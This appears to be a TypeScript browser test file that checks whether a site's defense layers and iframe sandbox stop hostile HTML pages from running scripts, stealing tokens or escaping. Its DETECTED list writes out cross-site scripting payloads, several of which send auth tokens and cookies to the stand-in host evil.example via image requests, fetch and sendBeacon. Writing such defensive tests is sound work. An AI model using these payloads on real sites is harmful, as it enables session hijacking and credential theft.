import { allLayers, layers, noLayer } from '../attacks/layers.ts';
import { createHostilePages, readPayloads } from '../attacks/payloads.ts';
import { startAttackRun } from './attack-run.ts';
import { expect, similarIn, test } from './engine-test.ts';

/** `npm run test:full attacks` shows every payload; `npm run test:all` a sample. */
const RUN_ALL = process.env.ATTACKS === 'all';
const SAMPLE_SIZE = 2;
const BATCH_SIZE = 40;
/** Transformed pages are large: WebKit needs minutes for forty of them in one batch. */
const SANITIZED_BATCH_SIZE = 10;
const NO_DAMAGE = { executions: [], stolen: [], escapes: [], residue: [] };

const hostile = RUN_ALL
  ? readPayloads().flatMap(createHostilePages)
  : readPayloads(SAMPLE_SIZE).flatMap((payload, i) => createHostilePages(payload)[i % 2] ?? []);

test.describe.configure({ timeout: RUN_ALL ? 3_600_000 : 120_000 });

/** Attacks, and what is detected of them without any layer. */
const DETECTED: [page: string, effect: keyof typeof NO_DAMAGE, detection: RegExp][] = [
  ['<script>alert(1)</script>', 'executions', /^called alert$/],
  ['<img src=x onerror=alert(1)>', 'stolen', /^called alert could read the token$/],
  ['<svg onload=alert(1)>', 'executions', /^called alert$/],
  ['<input autofocus onfocus=alert(1)>', 'executions', /^called alert$/],
  ['<script>undefinedFunction()</script>', 'executions', /^script failed: .*undefinedFunction/],
  ['<a href="javascript:document.title=1">x</a>', 'executions', /^script used title|^script set title/],
  ['<script src="https://evil.example/a.js"></script>', 'executions', /^called alert$/],
  ['<script src="http://evil.example/a.js"></script>', 'executions', /^called alert$/],
  [
    '<script>new Image().src = "https://evil.example/?" + localStorage.getItem("sb-canary-auth-token")</script>',
    'stolen',
    /^token sent to https/,
  ],
  ['<script>fetch("http://evil.example/", { method: "POST", body: parent.document.cookie })</script>', 'stolen', /^token sent to http:/],
  [
    '<script>navigator.sendBeacon("https://evil.example/", sessionStorage.getItem("sb-canary-auth-token"))</script>',
    'stolen',
    /^token sent to https/,
  ],
  ['<script>new Image().src = parent.location.origin + "/" + parent.document.cookie</script>', 'stolen', /^token sent to the site$/],
  ['<iframe srcdoc="<script>alert(2)</script>"></iframe>', 'executions', /^dialog/],
  ['<script>top.alert(3)</script>', 'executions', /^dialog/],
];

test('hostile pages run their attacks in this engine when no defense layer is active', async ({ engine, browserOfEngine }) => {
  const run = await startAttackRun(engine, browserOfEngine, noLayer);
  for (const [page, effect, detection] of DETECTED) {
    for (const effects of Object.values(run.damage)) effects.length = 0;
    await run.show([page]);
    expect(
      run.damage[effect].some((entry) => detection.test(entry)),
      `${page}: ${JSON.stringify(run.damage)}`,
    ).toBe(true);
  }
  await run.close();
});

for (const layer of layers) {
  test(
    `${layer.name} stops every attack of the hostile pages in this engine`,
    layer === allLayers ? {} : similarIn('firefox', 'webkit'),
    async ({ engine, browserOfEngine }) => {
      const run = await startAttackRun(engine, browserOfEngine, layer);
      const size = layer.isSanitized ? SANITIZED_BATCH_SIZE : BATCH_SIZE;
      let shownCount = 0;
      for (let at = 0; at < hostile.length; at += size) {
        const documents = hostile.slice(at, at + size).map((page) => layer.document(page));
        const delivered = documents.filter((html) => html !== null);
        await run.show(delivered);
        shownCount += delivered.length;
        expect(run.damage, `pages ${at} to ${at + size}`).toEqual(NO_DAMAGE);
      }
      console.log(`${engine}, ${layer.name}: ${shownCount} pages shown, ${hostile.length - shownCount} refused`);
      expect(shownCount).toBeGreaterThan(hostile.length * 0.95);
      await run.close();
    },
  );
}

/** The frames have the site's origin, so scripts that run in them could open the dialogs of the site's own window, which isn't sandboxed. */
const SITE_WINDOW = /\b(?:top|parent)\b/;

test('the sandbox alone keeps hostile pages from opening windows and dialogs and from navigating the site', async ({
  engine,
  browserOfEngine,
}) => {
  const run = await startAttackRun(engine, browserOfEngine, noLayer, { allowsDialogs: false });
  const pages = hostile.filter((page) => !SITE_WINDOW.test(page));
  for (let at = 0; at < pages.length; at += BATCH_SIZE) {
    await run.show(pages.slice(at, at + BATCH_SIZE));
    expect(run.damage.escapes, `pages ${at} to ${at + BATCH_SIZE}`).toEqual([]);
  }
  expect(run.damage.executions.filter((entry) => entry.startsWith('dialog'))).toEqual([]);
  expect(run.damage.executions.length).toBeGreaterThan(pages.length / 2);
  await run.close();
});
